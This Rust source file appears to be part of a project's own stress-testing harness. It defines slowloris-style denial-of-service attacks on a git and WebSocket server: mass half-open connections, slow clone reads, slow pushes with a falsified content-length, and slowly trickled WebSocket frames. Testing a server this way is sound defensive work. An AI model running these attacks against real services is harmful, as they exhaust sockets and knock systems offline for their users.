//! Attacks that are nothing but sockets: held open, fed slowly, read slowly.

use std::time::Duration;

use tokio::io::AsyncReadExt;

use crate::clients::nostr::now;
use crate::load::noise::noise;
use crate::siege::attack::Assault;
use crate::siege::attack::Attack;
use crate::siege::attack::BOTH;
use crate::siege::attack::PAUSE;
use crate::siege::attack::Route;
use crate::siege::attack::side_by_side;
use crate::siege::attacker::Attacker;
use crate::siege::attacker::Command;
use crate::siege::attacker::Request;
use crate::siege::attacker::push_body;
use crate::siege::attacks::http::clone_request;
use crate::siege::own_repository::OwnRepository;
use crate::siege::own_repository::random_id;
use crate::siege::websocket::Socket;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "half-open",
        does: "opens 1,000 connections and sends the first byte of a request on each",
        costs: "1,000 sockets",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(half_open(attacker, 1000)),
    },
    Attack {
        name: "half-open-by-proxy",
        does: "the same through a trusted proxy, which counts no connections: 2,000",
        costs: "2,000 sockets",
        worlds: BOTH,
        route: Route::TrustedProxy,
        prepare: |attacker| Box::pin(half_open(attacker, 2000)),
    },
    Attack {
        name: "too-many-connections",
        does: "opens connections without end, more than one address may have",
        costs: "1,500 sockets",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(half_open(attacker, 1500)),
    },
    Attack {
        name: "slow-clones",
        does: "64 sockets that read a clone of 16 MB slowly",
        costs: "16 MB once, and 64 sockets",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(slow_clones(attacker)),
    },
    Attack {
        name: "slow-clones-by-proxy",
        does: "the same through a trusted proxy",
        costs: "the same",
        worlds: BOTH,
        route: Route::TrustedProxy,
        prepare: |attacker| Box::pin(slow_clones(attacker)),
    },
    Attack {
        name: "slow-pushes",
        does: "300 sockets that send a pack slowly",
        costs: "300 sockets",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(slow_pushes(attacker)),
    },
    Attack {
        name: "slow-pushes-by-proxy",
        does: "the same through a trusted proxy",
        costs: "300 sockets",
        worlds: BOTH,
        route: Route::TrustedProxy,
        prepare: |attacker| Box::pin(slow_pushes(attacker)),
    },
    Attack {
        name: "many-websockets",
        does: "900 WebSockets with a subscription each",
        costs: "900 sockets",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(many_websockets(attacker, 900)),
    },
    Attack {
        name: "all-websockets",
        does: "as many WebSockets as one address may have connections, each with a subscription",
        costs: "1,100 sockets",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(many_websockets(attacker, 1100)),
    },
    Attack {
        name: "slow-messages",
        does: "400 WebSockets that send a message of 380 KB slowly",
        costs: "400 sockets, and some KB a second",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(slow_messages(attacker)),
    },
];

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn half_open(attacker: Attacker, count: usize) -> Assault {
    Box::pin(async move {
        side_by_side(count, |_| {
            let attacker = attacker.clone();
            async move {
                loop {
                    if let Some(mut socket) = attacker.connect().await {
                        attacker.write(&mut socket, b"G").await;
                        // Until the server is tired of it.
                        let read = socket.read(&mut [0; 16]).await;
                        attacker.effort.answered(&format!("read {read:?}"));
                    }
                    tokio::time::sleep(5 * PAUSE).await;
                }
            }
        })
        .await;
    })
}

async fn slow_clones(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "large").await;
    own.announce(&attacker, now() - 100, &[]).await;
    let commit = own.git.commit_file("large", &noise(7, 16 << 20)).await;
    own.push(&attacker, &[("refs/heads/main", &commit)], None, now() - 100)
        .await;
    let request = clone_request(&own.path(), &commit);
    Box::pin(async move {
        side_by_side(64, |_| {
            let (attacker, request) = (attacker.clone(), request.clone());
            async move {
                loop {
                    if let Some(mut socket) = attacker.begin(Some(4096), &request).await {
                        while let Ok(1..) = socket.read(&mut [0; 512]).await {
                            attacker.effort.answered("read a little");
                            tokio::time::sleep(PAUSE).await;
                        }
                    }
                    tokio::time::sleep(PAUSE).await;
                }
            }
        })
        .await;
    })
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn slow_pushes(attacker: Attacker) -> Assault {
    Box::pin(async move {
        side_by_side(300, |_| {
            let attacker = attacker.clone();
            async move {
                loop {
                    let command = Command::pull_request(&random_id(), &"1".repeat(40));
                    let body = push_body(&[command], b"PACK\0\0\0\x02\0\0\0\x01");
                    let length = body.len();
                    let mut request = Request::service(&attacker.victim.path, "git-receive-pack", "", body);
                    let promised = format!("content-length: {}\r\n", 20 << 20);
                    let told = format!("content-length: {length}\r\n");
                    request.fields = request.fields.replace(&told, &promised);
                    if let Some(mut socket) = attacker.begin(None, &request).await {
                        while attacker.write(&mut socket, b"x").await.is_some() {
                            tokio::time::sleep(5 * PAUSE).await;
                        }
                        attacker.effort.answered("cut off");
                    }
                    tokio::time::sleep(PAUSE).await;
                }
            }
        })
        .await;
    })
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn many_websockets(attacker: Attacker, count: usize) -> Assault {
    Box::pin(async move {
        side_by_side(count, |_| {
            let attacker = attacker.clone();
            async move {
                loop {
                    if let Some(mut socket) = Socket::open(&attacker).await {
                        socket.say(r#"["REQ","all",{"limit":1}]"#.to_owned()).await;
                        while let Some(message) = socket.hear_patiently().await {
                            attacker.effort.answered(message[0].as_str().unwrap_or_default());
                        }
                    }
                    tokio::time::sleep(5 * PAUSE).await;
                }
            }
        })
        .await;
    })
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn slow_messages(attacker: Attacker) -> Assault {
    Box::pin(async move {
        side_by_side(400, |_| {
            let attacker = attacker.clone();
            async move {
                let Some(mut socket) = Socket::open(&attacker).await else {
                    return;
                };
                // The head of a frame: a text, masked by zeros, of 380,000 bytes (RFC 6455 5.2).
                let mut frame = vec![0x81, 0x80 | 127];
                frame.extend(380_000_u64.to_be_bytes());
                frame.extend([0; 4]);
                frame.extend([b'x'; 100_000]);
                while socket.write_raw(&frame).await.is_some() {
                    attacker.effort.answered("sent a part");
                    frame = vec![b'x'; 10];
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            }
        })
        .await;
    })
}
